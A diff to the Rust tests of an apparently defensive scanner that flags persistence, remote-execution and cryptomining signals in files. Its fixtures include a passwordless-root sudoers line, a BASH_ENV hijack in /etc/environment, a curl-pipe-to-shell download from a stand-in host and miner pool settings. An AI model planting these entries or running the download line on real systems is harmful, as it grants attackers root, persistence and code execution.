@@ -1,6 +1,7 @@
 //! Every signal by example: what raises it, and what looks like it and does not.
 
 use super::*;
+use crate::user_data::Odd;
 use proptest::prelude::*;
 
 fn script(language: Language, text: &str) -> Vec<Piece> {
@@ -265,6 +266,20 @@ fn every_windows_signal_fires_and_keeps_still() {
 }
 
 #[test]
+fn root_for_everybody_and_a_file_that_every_shell_reads_are_suspicious_alone() {
+    let conclusion = |target: &str, text: &str| {
+        let content = Content::File { target: target.into(), text: text.into() };
+        judge(&[Piece { path: "here".into(), content }], 0, None, &trust()).conclusion
+    };
+    let sudoers = |line: &str| conclusion("/etc/sudoers.d/x", line);
+    assert_eq!(sudoers("apache ALL=(ALL) NOPASSWD: ALL\n"), Conclusion::Suspicious);
+    assert_eq!(sudoers("deploy ALL=(ALL) NOPASSWD: ALL\n"), Conclusion::Signals);
+    assert_eq!(sudoers("apache ALL=(root) NOPASSWD: /usr/bin/systemctl reload httpd\n"), Conclusion::Signals);
+    assert_eq!(conclusion("/etc/environment", "BASH_ENV=/var/tmp/.x\n"), Conclusion::Suspicious);
+    assert_eq!(conclusion("/etc/environment", "BASH_ENV=/etc/profile.d/app.sh\n"), Conclusion::Clean);
+}
+
+#[test]
 fn directives_are_judged_as_well() {
     let setting = |key: &str, value: &str| Content::Setting { key: key.into(), value: value.into() };
     let include = |url: &str| Content::Include { url: url.into() };
@@ -294,7 +309,11 @@ fn directives_are_judged_as_well() {
         (file("/opt/x", "#!/bin/sh\ncurl https://a.example/x | sh\n"), "exe-01"),
         (file("/opt/c.json", "{\"url\": \"xmr.nanopool.org:14444\"}"), "min-03"),
         (file("/opt/compose.yml", "services:\n  a:\n    image: a/xmrig\n"), "min-01"),
+        (file("/etc/environment", "BASH_ENV=/tmp/x\n"), "per-05"),
         (Content::Undecodable { reason: "gzip".into(), sha256: "00".into(), len: 2 }, "dec-02"),
+        (Content::Odd { what: Odd::BuiltText, text: "'a' ~ 'b'".into() }, "dec-04"),
+        (Content::Odd { what: Odd::Unrendered, text: "v1.x".into() }, "dec-04"),
+        (Content::Odd { what: Odd::OverBound, text: "more than 64 parts".into() }, "dec-05"),
     ] {
         let judgement = judge(&[Piece { path: "here".into(), content: content.clone() }], 0, None, &trust());
         let found = judgement.findings.iter().find(|finding| finding.id == expected);
@@ -463,7 +482,7 @@ fn each_signal_counts_once_and_the_table_is_whole() {
     }
     // Every signal has an example, here or among the directives.
     for signal in SIGNALS {
-        let elsewhere = ["exe-07", "dec-02", "dec-03"].contains(&signal.id);
+        let elsewhere = ["exe-07", "dec-02", "dec-03", "dec-04", "dec-05"].contains(&signal.id);
         let here = SHELL.iter().chain(WINDOWS).any(|(id, ..)| *id == signal.id);
         assert!(elsewhere || here, "{} has no example", signal.id);
     }
